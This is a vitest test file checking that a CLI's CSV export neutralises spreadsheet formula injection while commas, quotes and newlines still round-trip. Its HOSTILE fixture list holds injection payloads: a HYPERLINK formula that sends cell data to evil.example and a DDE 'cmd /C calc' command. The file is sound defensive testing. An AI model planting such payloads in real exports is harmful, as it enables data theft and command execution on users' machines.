import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { parseCsv } from "../src/csv.js";
import { cli, tempDir } from "./helpers.js";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,2)",
  "\tTab first",
  "\rCR first",
];
const PLAIN = ['Ann "the boss", Jr.', "two\nlines", "a,b"];

/** One page of users whose names come from outside senders. */
function users(ids: readonly string[]) {
  const all = ids.map((id, i) => ({
    id,
    name: [...HOSTILE, ...PLAIN][i] ?? `User ${i}`,
    score: -5,
  }));
  return async (request: Request) => {
    const url = new URL(request.url);
    const offset = Number(url.searchParams.get("offset") ?? 0);
    return Response.json({ users: all.slice(offset, offset + 200) });
  };
}

const ids = Array.from({ length: HOSTILE.length + PLAIN.length }, (_, i) => `u${i}`);

describe("export --format csv against formula injection (#13.4)", () => {
  it("neutralises cells that start like a formula; commas, quotes and newlines round-trip", async () => {
    const { code, stdout } = await cli(["export", "users", "--format", "csv"], {
      fetch: users(ids),
    });
    expect(code).toBe(0);
    const [header = [], ...rows] = parseCsv(stdout);
    // The spec's User columns first, then the first item's own (score).
    expect(header.slice(0, 5)).toEqual(["id", "me", "email", "name", "avatar_url"]);
    const at = (name: string) => header.indexOf(name);
    const names = rows.map((r) => r[at("name")]);
    expect(names.slice(0, HOSTILE.length)).toEqual(HOSTILE.map((n) => `'${n}`));
    expect(names.slice(HOSTILE.length)).toEqual(PLAIN);
    // A number is no formula: -5 stays a number.
    expect(rows.every((r) => r[at("score")] === "-5")).toBe(true);
    // No cell of the file starts a formula, but numbers.
    for (const cell of rows.flat()) if (/^[=+@\t\r-]/.test(cell)) expect(cell).toMatch(/^-\d+$/);
  });

  it("--csv-raw writes the cells as they are", async () => {
    const { code, stdout } = await cli(["export", "users", "--format", "csv", "--csv-raw"], {
      fetch: users(ids),
    });
    expect(code).toBe(0);
    const [header = [], ...rows] = parseCsv(stdout);
    expect(rows.map((r) => r[header.indexOf("name")])).toEqual([...HOSTILE, ...PLAIN]);
  });

  it("a resumed CSV export reads neutralised ids back and writes none twice", async () => {
    const hostileIds = ["-a", "=b", "+c", "@d", "e", "f", "g", "h", "i"];
    const file = join(tempDir(), "users.csv");
    const argv = ["export", "users", "--format", "csv", "--output", file];
    expect((await cli(argv, { fetch: users(hostileIds.slice(0, 5)) })).code).toBe(0);
    // Pretend that run was interrupted: its state file says so.
    const state = { resource: "users", format: "csv", query: {}, fields: [], complete: false };
    const { writeFileSync } = await import("node:fs");
    writeFileSync(`${file}.state.json`, JSON.stringify(state));
    expect((await cli(argv, { fetch: users(hostileIds) })).code).toBe(0);
    const rows = parseCsv(readFileSync(file, "utf8")).slice(1);
    expect(rows.map((r) => r[0])).toEqual(
      hostileIds.map((id) => (/^[=+@-]/.test(id) ? `'${id}` : id)),
    );
  });
});
